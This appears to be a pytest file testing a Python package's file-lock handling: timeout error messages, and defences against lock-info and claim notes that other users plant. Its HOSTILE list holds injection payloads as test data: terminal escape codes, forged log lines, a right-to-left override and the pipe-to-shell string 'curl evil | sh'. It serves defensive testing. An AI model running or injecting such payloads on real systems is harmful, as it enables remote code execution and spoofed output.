"""What lies beside a lock is anybody's, and a lock that is held says by whom."""

from __future__ import annotations

import json
import os
import re
import socket
import sys
import threading
import time

import conftest
import filelock
import pytest

from requests_ticktick import FileStore, LockTimeoutError, MemoryStore, Token
from requests_ticktick.stores import _claim, _place


@pytest.fixture
def store(tmp_path):
    return FileStore(tmp_path / "t.json")


@pytest.fixture
def info(tmp_path):
    """Where the holder says who it is, and what went wrong last."""
    return tmp_path / "t.json.lock-info"


@pytest.fixture
def claim(tmp_path, monkeypatch):
    """Where a process says that it is about to take the lock."""
    monkeypatch.setattr(_claim, "yielded", {})  # as in a process that is new
    monkeypatch.delitem(sys.modules, "filelock", raising=False)
    return tmp_path / "t.json.lock-claim"


def refusal(store, timeout):
    """The error of one who tries in vain."""
    with pytest.raises(LockTimeoutError) as caught:
        store.lock(timeout).__enter__()
    return caught.value


# -- how long it was waited for --------------------------------------------------------


def test_a_caller_that_did_not_wait_gets_the_plain_error(store):
    """It is told who holds the lock, and what to do."""
    with store.lock():
        said = str(refusal(store, 0))

    assert said.startswith(
        f"The lock {store.path}.lock is held by process {os.getpid()}"
    )
    assert "Waited" not in said
    assert "Finish or stop the sign-on there" in said


def test_the_error_names_the_time_waited(store):
    """As long as it was ready to."""
    with store.lock():
        said = str(refusal(store, 0.05))

    assert said.startswith(f"Waited 0.05 s for the lock {store.path}.lock, held by")


@pytest.mark.parametrize(
    ("timeout", "said"), [(0, "is signing on:"), (0.05, "on for over 0.05 s:")]
)
def test_a_thread_is_told_the_same_way(timeout, said):
    """Of a lock in memory."""
    store = MemoryStore()

    with store.lock():
        assert said in str(refusal(store, timeout))


@pytest.mark.parametrize("timeout", [0, -1])
def test_a_free_lock_is_taken_at_once(store, monkeypatch, timeout):
    """What filelock takes for no end at all is no wait here."""
    waits = []
    acquire = filelock.FileLock.acquire

    def acquire_and_tell(self, timeout, **options):
        waits.append(timeout)
        return acquire(self, timeout, **options)

    monkeypatch.setattr(filelock.FileLock, "acquire", acquire_and_tell)
    with store.lock(0):
        refusal(store, timeout)

    assert waits == [0, 0, 0]  # the holder has two locks


# -- a holder's note -------------------------------------------------------------------

HOSTILE = [
    {"pid": "\x1b]0;x\x07 1", "host": "evil\nWARNING forged", "failure": 5},
    {"pid": 1, "host": "evil\nWARNING forged \x1b[2J", "since": "yesterday"},
    {"pid": 1, "host": ["curl evil | sh"], "since": 1e300, "failure": ["forged"]},
    {"pid": 1, "host": "curl evil | sh", "failure": {"forged": 1}},
    {"pid": 1, "host": "h" * 100_000},
    {"pid": 1, "host": "h" * 1000},
    {"pid": True, "host": {}},
    {"pid": 10**4000},
    {"pid": 1 << 32},
    {"pid": -1, "host": "\u202egnp"},
    [{"pid": 1}],
    "[" * 60_000,
]


@pytest.mark.parametrize("note", HOSTILE, ids=lambda note: str(note)[:20])
def test_a_holders_note_is_never_shown_as_it_is(store, info, note):
    """A process number and a host's name, since when the file is there; or nothing."""
    with store.lock():
        info.write_text(json.dumps(note))
        error = refusal(store, 0)

        assert store.failure() is None
    said = f"{error} {error.holder}"
    assert said.isprintable()
    assert len(said) < 700
    assert not re.search("forged|curl|yesterday|hhh|gnp", said)
    assert error.holder is None or error.holder.startswith("process 1 since 20")


def test_a_note_with_an_impossible_time_shows_no_time(store, info):
    """Whoever owns the file can date it as they like."""
    with store.lock():
        info.write_text(json.dumps({"pid": 7, "host": "here"}))
        os.utime(info, (-86_400, -86_400))

        assert refusal(store, 0).holder == "process 7 on here"


def test_a_huge_note_is_not_read(store, info):
    """Its beginning alone: of a hundred megabytes, one."""
    note = {"pid": 1, "host": "here", "failure": "no", "padding": "x" * 65_536}
    with store.lock():
        info.write_text(json.dumps(note))
        assert (store.failure(), refusal(store, 0).holder) == (None, None)
        with info.open("r+b") as file:
            file.truncate(100_000_000)
        assert (store.failure(), refusal(store, 0).holder) == (None, None)


@pytest.mark.parametrize(
    ("user", "is_read"), [("nobody else", True), ("another", False)]
)
def test_another_users_note_is_ignored(store, info, user, is_read):
    """In a folder that others can write to, they can plant one."""
    if not hasattr(os, "geteuid") or os.geteuid() != 0:
        reason = "files are given to others by root alone"
        (pytest.fail if conftest.IN_CI else pytest.skip)(reason)
    with store.lock():
        store.record_failure("no")
        os.chown(info, 12345 if user == "another" else 0, -1)

        assert (store.failure() == "no") is is_read
        assert (refusal(store, 0).holder is not None) is is_read


def test_where_files_have_no_users_a_note_is_read(store, monkeypatch):
    """Windows tells no user's number."""
    monkeypatch.delattr(os, "geteuid")

    with store.lock():
        store.record_failure("no")
        assert store.failure() == "no"


def test_notes_are_not_flushed_to_the_disk(store, monkeypatch):
    """After a power failure nobody waits any more; a token is another matter."""
    synced = []
    monkeypatch.setattr(os, "fsync", synced.append)

    with store.lock(0):
        store.record_failure("no")
        assert store.failure() == "no"
        assert synced == []
        store.save(Token("a"))

    assert synced


def test_a_note_with_a_second_name_is_replaced(store, info, tmp_path):
    """What has the other name stays as it is."""
    with store.lock(0):
        pass
    os.link(info, tmp_path / "precious")
    before = info.read_bytes()

    with store.lock(0):
        store.record_failure("no")

    assert store.failure() == "no"
    assert (tmp_path / "precious").read_bytes() == before


def test_in_a_folder_of_anothers_nobody_claims_the_lock(store, claim, monkeypatch):
    """Nor writes anything else there."""
    monkeypatch.setattr(_place, "doubt", lambda path: "It is another user's")

    assert _claim.Claim(str(claim)).begin()

    assert not claim.exists()


# -- a claim ---------------------------------------------------------------------------


def test_a_claim_that_is_made_again_and_again_delays_nobody_for_long(store, claim):
    """Whoever makes it never takes the lock."""
    written, over = threading.Event(), threading.Event()

    def spam():
        new = claim.with_suffix(".new")
        while not over.is_set():
            new.write_text(json.dumps({"pid": os.getppid(), "host": "evil"}))
            new.replace(claim)
            written.set()

    spammer = threading.Thread(target=spam)
    spammer.start()
    try:
        assert written.wait(30)
        deadline, tries = time.monotonic() + 30, 0
        while time.monotonic() < deadline:
            tries += 1
            try:
                with store.lock(0):
                    break
            except LockTimeoutError:
                continue
        else:
            pytest.fail("the lock was never had")
    finally:
        over.set()
        spammer.join()


def test_of_two_claims_at_the_same_moment_one_is_made(claim, monkeypatch):
    """The file system says whose it is."""
    other = json.dumps({"pid": os.getppid(), "host": socket.gethostname()})
    monkeypatch.setattr(os, "unlink", lambda path: claim.write_text(other))

    mine = _claim.Claim(str(claim))

    assert not mine.begin()
    mine.end()
    assert claim.read_text() == other


@pytest.mark.parametrize("note", HOSTILE, ids=lambda note: str(note)[:20])
def test_a_claim_without_a_process_is_ignored(store, claim, note):
    """Or for a moment, where it names a process."""
    claim.write_text(json.dumps(note))
    os.utime(claim, (1, 1))

    with store.lock(0):
        pass


def test_a_claim_from_the_future_is_ignored(store, claim):
    """It would else last until then."""
    claim.write_text(json.dumps({"pid": os.getppid(), "host": "here"}))
    later = time.time() + 3600
    os.utime(claim, (later, later))

    with store.lock(0):
        pass
